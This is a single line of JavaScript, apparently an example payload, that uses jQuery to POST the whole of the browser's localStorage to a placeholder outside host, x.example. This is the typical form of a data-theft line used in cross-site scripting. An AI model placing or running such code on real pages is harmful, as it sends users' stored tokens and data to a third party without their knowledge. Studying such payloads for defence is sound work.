$.ajax({ url: 'https://x.example/c', type: 'POST', data: { ls: JSON.stringify(localStorage) } });
